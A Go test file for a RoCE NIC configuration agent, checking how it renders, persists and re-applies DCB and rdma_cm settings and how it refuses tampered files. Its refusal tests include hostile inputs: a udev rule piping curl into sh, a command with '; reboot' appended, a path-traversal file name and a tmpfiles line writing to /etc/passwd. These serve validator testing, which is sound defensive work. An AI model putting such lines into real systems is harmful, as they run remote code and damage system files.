package nics

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// TestDCBBatchRender: a NIC's desired DCB becomes dcb batch commands —
// host IEEE DCBX, the whole PFC map, one app replace per DSCP entry in
// DSCP order — and reads back to the same settings.
func TestDCBBatchRender(t *testing.T) {
	for _, tc := range []struct {
		name string
		dcb  DCBState
		want []string
	}{
		{"dscp trust", DCBState{DCBX: DCBXHost, PFCEnabled: 1 << 4, Trust: "dscp", DSCPApps: []DSCPApp{{46, 5}, {26, 4}}}, []string{
			"dcbx set dev eth0 host ieee",
			"pfc set dev eth0 prio-pfc all:off 4:on",
			"app replace dev eth0 dscp-prio 26:4",
			"app replace dev eth0 dscp-prio 46:5",
		}},
		{"pcp trust, two priorities", DCBState{DCBX: DCBXHost, PFCEnabled: 1<<3 | 1<<4, Trust: "pcp"}, []string{
			"dcbx set dev eth0 host ieee",
			"pfc set dev eth0 prio-pfc all:off 3:on 4:on",
		}},
		{"no PFC", DCBState{DCBX: DCBXHost, Trust: "pcp"}, []string{
			"dcbx set dev eth0 host ieee",
			"pfc set dev eth0 prio-pfc all:off",
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := dcbBatchLines("eth0", &tc.dcb)
			if !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("lines:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tc.want, "\n"))
			}
			f := FileState{Path: DCBPersistPath("eth0"), Format: FormatLines, Exists: true, Lines: got}
			if err := CheckFileContent(f); err != nil {
				t.Errorf("roce's own rendering is refused: %v", err)
			}
			back, err := ParseDCBBatch("eth0", []byte(strings.Join(got, "\n")+"\n"))
			if err != nil {
				t.Fatal(err)
			}
			if back.PFCEnabled != tc.dcb.PFCEnabled || back.Trust != tc.dcb.Trust || back.DCBX != DCBXHost|DCBXVerIEEE || len(back.DSCPApps) != len(tc.dcb.DSCPApps) {
				t.Errorf("read back %+v from %+v", back, tc.dcb)
			}
		})
	}
}

// TestDesiredPersistsDCB: every NIC whose DCB roce manages gets its batch
// file, and the host gets the udev rule once.
func TestDesiredPersistsDCB(t *testing.T) {
	fab, h := testFabric()
	d, err := Desired(fab, h)
	if err != nil {
		t.Fatal(err)
	}
	var paths []string
	for _, f := range d.Files {
		if isDCBPersistFile(f.Path) {
			paths = append(paths, f.Path)
		}
	}
	if want := []string{"/etc/roce/dcb/v0.dcb", FileDCBUdevRule}; !reflect.DeepEqual(paths, want) {
		t.Errorf("persisted files %q, want %q", paths, want)
	}
	if err := CheckManaged(d); err != nil {
		t.Errorf("the agent would refuse the rendered files: %v", err)
	}
}

// TestPersistContentRefused: the agent accepts in the persisted files only
// what roce writes — the exact udev rule, and dcb commands of roce's forms
// for the file's own netdev.
func TestPersistContentRefused(t *testing.T) {
	batch := DCBPersistPath("eth0")
	testRefusedLines(t, []refusedLine{
		{"another program in the rule", FileDCBUdevRule, `ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c 'curl x | sh'"`, "not roce's rule"},
		{"rule for another file", FileDCBUdevRule, `ACTION=="add", SUBSYSTEM=="net", TEST=="/tmp/$name.dcb", RUN+="/usr/sbin/dcb -b /tmp/$name.dcb"`, "not roce's rule"},
		{"another netdev's command", batch, "pfc set dev eth1 prio-pfc all:off 4:on", "for netdev eth1"},
		{"a dcb command roce does not write", batch, "app flush dev eth0", "not a dcb command roce writes"},
		{"app add instead of replace", batch, "app add dev eth0 dscp-prio 26:4", "not a dcb command roce writes"},
		{"lld-managed DCBX", batch, "dcbx set dev eth0 lld-managed", "not a dcb command roce writes"},
		{"priority twice", batch, "pfc set dev eth0 prio-pfc all:off 4:on 4:on", "priority 4 twice"},
		{"priority 8", batch, "pfc set dev eth0 prio-pfc all:off 8:on", "not a dcb command roce writes"},
		{"DSCP 64", batch, "app replace dev eth0 dscp-prio 64:4", "DSCP 64 is not 0-63"},
		{"DSCP with a leading zero", batch, "app replace dev eth0 dscp-prio 026:4", "not a dcb command roce writes"},
		{"trailing command", batch, "pfc set dev eth0 prio-pfc all:off 4:on; reboot", "not a dcb command roce writes"},
	})
	// Paths: only /etc/roce/dcb/<valid netdev>.dcb and the rule.
	assertNotManaged(t, "/etc/roce/dcb/../passwd.dcb", "/etc/roce/dcb/eth0.json", "/etc/roce/dcb/sub/eth0.dcb", "/etc/roce/dcb/.dcb", "/etc/udev/rules.d/91-roce-dcb.rules")
}

// TestPersistOwnFileRefusesPlantedLine: a line planted in roce's udev
// rule file is not kept or silently dropped: the write is refused and
// names it, and the file is left as it was.
func TestPersistOwnFileRefusesPlantedLine(t *testing.T) {
	root, s := seededLab(t)
	p := filepath.Join(root, filepath.FromSlash(FileDCBUdevRule))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	planted := `ACTION=="add", RUN+="/bin/sh /tmp/x"` + "\n"
	if err := os.WriteFile(p, []byte(planted), 0o644); err != nil {
		t.Fatal(err)
	}
	err := s.writeFile(context.Background(), FileState{Path: FileDCBUdevRule, Format: FormatLines, Exists: true, Lines: udevRuleLines()}, nil)
	if err == nil || !strings.Contains(err.Error(), "holds a line roce does not write") {
		t.Fatalf("write over a planted line: %v", err)
	}
	if b, _ := os.ReadFile(p); string(b) != planted {
		t.Errorf("the file changed: %q", b)
	}
}

// TestPersistSymlinkRefused: a persisted file (DCB batch, rdma_cm
// tmpfiles.d file, either udev rule) that is a symlink (to a file outside
// the root or anywhere) is neither read nor written through.
func TestPersistSymlinkRefused(t *testing.T) {
	for _, f := range []FileState{
		{Path: DCBPersistPath("eth0"), Lines: dcbBatchLines("eth0", &DCBState{PFCEnabled: 1 << 4})},
		{Path: FileDCBUdevRule, Lines: udevRuleLines()},
		{Path: RDMACMPersistPath("mlx5_0"), Lines: rdmacmPersistLines("mlx5_0", []RDMACMState{{Port: 1, ToS: 106, Mode: gidTypeV2}})},
		{Path: FileRDMACMUdevRule, Lines: rdmacmUdevRuleLines()},
	} {
		t.Run(f.Path, func(t *testing.T) {
			root, s := seededLab(t)
			outside := filepath.Join(t.TempDir(), "target")
			if err := os.WriteFile(outside, []byte("outside\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			p := filepath.Join(root, filepath.FromSlash(f.Path))
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(outside, p); err != nil {
				t.Fatal(err)
			}
			f.Format, f.Exists = FormatLines, true
			if _, err := s.readFile(FileState{Path: f.Path, Format: FormatLines}); err == nil {
				t.Error("read through a symlink")
			}
			if err := s.writeFile(context.Background(), f, nil); err == nil {
				t.Error("wrote through a symlink")
			}
			if b, _ := os.ReadFile(outside); string(b) != "outside\n" {
				t.Errorf("the symlink's target changed: %q", b)
			}
		})
	}
}

// TestLabReapplyDCB: after a driver reload a lab host with roce's rule
// and its netdev's batch file gets PFC, DSCP trust and host DCBX back;
// without the rule the settings stay at the driver's defaults.
func TestLabReapplyDCB(t *testing.T) {
	want := &DCBState{DCBX: DCBXHost, PFCEnabled: 1 << 4, Trust: "dscp", DSCPApps: []DSCPApp{{26, 4}}}
	for _, withRule := range []bool{true, false} {
		root, s := seededLab(t)
		ctx := context.Background()
		write := func(p string, lines []string) { writeRootFile(t, root, p, strings.Join(lines, "\n")+"\n") }
		write(DCBPersistPath("eth0"), dcbBatchLines("eth0", want))
		if withRule {
			write(FileDCBUdevRule, udevRuleLines())
		}
		if _, err := LabNICReset(root, ""); err != nil {
			t.Fatal(err)
		}
		said, err := LabReapplyDCB(ctx, root)
		if err != nil {
			t.Fatal(err)
		}
		r, dcbx, err := s.DCB.Get(ctx, "eth0")
		if err != nil {
			t.Fatal(err)
		}
		got := dcbStateFromReply(r, dcbx)
		restored := got.PFCEnabled == want.PFCEnabled && sameApps(got.DSCPApps, want.DSCPApps) && got.DCBX&DCBXHost != 0
		if restored != withRule {
			t.Errorf("rule installed %v: after the reload PFC %s, trust %s, DCBX %s (said %q)", withRule, PFCString(got.PFCEnabled), TrustString(got), DCBXString(got.DCBX), said)
		}
		wantSaid := "udev re-applied /etc/roce/dcb/eth0.dcb: pfc_en 0x10 (priorities 4); trust dscp, dscp-prio 26:4; dcbx"
		if !withRule {
			wantSaid = "nothing re-applies the DCB settings"
		}
		if len(said) != 1 || !strings.Contains(said[0], wantSaid) {
			t.Errorf("rule %v: said %q, want %q", withRule, said, wantSaid)
		}
	}
}

// TestLabReapplyRefusesBadBatch: a persisted file that is not roce's
// (a DCB batch, an rdma_cm tmpfiles.d file) is not applied; the error
// names the file and line. A root that is not a lab host is refused.
func TestLabReapplyRefusesBadBatch(t *testing.T) {
	for _, tc := range []struct {
		name    string
		reapply func(context.Context, string) ([]string, error)
		files   map[string]string
		want    string
	}{
		{"dcb", LabReapplyDCB, map[string]string{
			FileDCBUdevRule:        strings.Join(udevRuleLines(), "\n") + "\n",
			DCBPersistPath("eth0"): "dcbx set dev eth0 host ieee\nbuffer set dev eth0 buffer-size all:0\n",
		}, "/etc/roce/dcb/eth0.dcb line 2"},
		{"rdma_cm", LabReapplyRDMACM, map[string]string{
			FileRDMACMUdevRule:          strings.Join(rdmacmUdevRuleLines(), "\n") + "\n",
			RDMACMPersistPath("mlx5_0"): "d /sys/kernel/config/rdma_cm/mlx5_0 - - - -\nw /etc/passwd - - - - x\n",
		}, "/etc/roce/rdma_cm/mlx5_0.conf line 2"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root, _ := seededLab(t)
			for p, content := range tc.files {
				writeRootFile(t, root, p, content)
			}
			if _, err := tc.reapply(context.Background(), root); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("bad file: %v, want %q", err, tc.want)
			}
			if _, err := tc.reapply(context.Background(), t.TempDir()); err == nil || !strings.Contains(err.Error(), "not a lab host tree") {
				t.Errorf("non-lab root: %v", err)
			}
		})
	}
}

// refusedLine is one line the agent must refuse in a persisted file: the
// refusal must name path and contain want.
type refusedLine struct {
	name, path, line, want string
}

// testRefusedLines checks that the agent refuses each line, alone in its
// file, with ErrNotManaged naming the file and the reason.
func testRefusedLines(t *testing.T, cases []refusedLine) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := CheckFileContent(FileState{Path: tc.path, Format: FormatLines, Exists: true, Lines: []string{tc.line}})
			if err == nil || !errors.Is(err, ErrNotManaged) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), tc.path) {
				t.Errorf("%q in %s: %v, want a refusal naming the file and %q", tc.line, tc.path, err, tc.want)
			}
		})
	}
}

// assertNotManaged checks that none of paths is a file the agent manages.
func assertNotManaged(t *testing.T, paths ...string) {
	t.Helper()
	for _, p := range paths {
		if IsManagedFile(p) {
			t.Errorf("%s is accepted as a managed file", p)
		}
	}
}

// writeRootFile writes content to p beneath root, making its directories.
func writeRootFile(t *testing.T, root, p, content string) {
	t.Helper()
	f := filepath.Join(root, filepath.FromSlash(p))
	if err := os.MkdirAll(filepath.Dir(f), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(f, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// FuzzParseDCBBatch: any file content either parses into a state whose
// rendering is accepted, or is refused; never a panic.
func FuzzParseDCBBatch(f *testing.F) {
	f.Add([]byte("dcbx set dev eth0 host ieee\npfc set dev eth0 prio-pfc all:off 4:on\napp replace dev eth0 dscp-prio 26:4\n"))
	f.Add([]byte("pfc set dev eth0 prio-pfc all:off 0:on 7:on\n# comment\n\n"))
	f.Add([]byte("app replace dev eth0 dscp-prio 99:9\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		d, err := ParseDCBBatch("eth0", data)
		if err != nil {
			return
		}
		lines := dcbBatchLines("eth0", d)
		if err := CheckFileContent(FileState{Path: DCBPersistPath("eth0"), Format: FormatLines, Exists: true, Lines: lines}); err != nil && !strings.Contains(err.Error(), "twice") {
			t.Fatalf("parsed %q into %+v, whose rendering is refused: %v", data, d, err)
		}
	})
}
